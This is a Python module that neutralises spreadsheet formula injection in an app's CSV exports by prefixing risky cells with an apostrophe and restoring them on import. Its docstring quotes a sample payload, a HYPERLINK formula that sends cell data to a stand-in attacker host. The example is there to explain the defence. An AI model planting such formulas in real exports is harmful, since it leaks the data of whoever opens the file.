"""Every CSV the app writes, with cells a spreadsheet would run as formulas made inert.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a listing titled ``=HYPERLINK("http://evil.example/?x="&A2)``
would send a coordinator's data elsewhere when the export is opened. Such cells are written with a
leading apostrophe, which spreadsheets show as "this is text", and :func:`restore_cell` takes it off
again when the app reads its own CSV back (an apostrophe that was really there is doubled, so the
round trip is exact).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from flask import Response

# The byte-order mark tells Excel the file is UTF-8: without it, Greek and Arabic come out as
# mojibake (LibreOffice and the app's own import read it either way).
BYTE_ORDER_MARK = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    """True for text a spreadsheet would run, and for text that looks already quoted."""
    while text.startswith(QUOTE):
        text = text[1:]
    return text.startswith(FORMULA_STARTS)


def neutralise_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it, never run it; non-text values pass unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return QUOTE + value
    return value


def restore_cell(text: str) -> str:
    """The text that :func:`neutralise_cell` was given (the inverse, for imports)."""
    if text.startswith(QUOTE) and _needs_quote(text[1:]):
        return text[1:]
    return text


def csv_text(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV document (``\\n`` line ends; None as an empty cell), every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([neutralise_cell(h) for h in headers])
    for row in rows:
        writer.writerow(["" if v is None else neutralise_cell(v) for v in row])
    return buffer.getvalue()


def write_csv_file(path: Path, text: str) -> None:
    """A CSV file that spreadsheets open as UTF-8, as the web's downloads are."""
    path.write_text(BYTE_ORDER_MARK + text, encoding="utf-8")


def csv_response(text: str, filename: str) -> Response:
    """A CSV download that spreadsheets open as UTF-8."""
    return Response(
        BYTE_ORDER_MARK + text,
        mimetype="text/csv",
        headers={"Content-Disposition": f"attachment; filename={filename}"},
    )
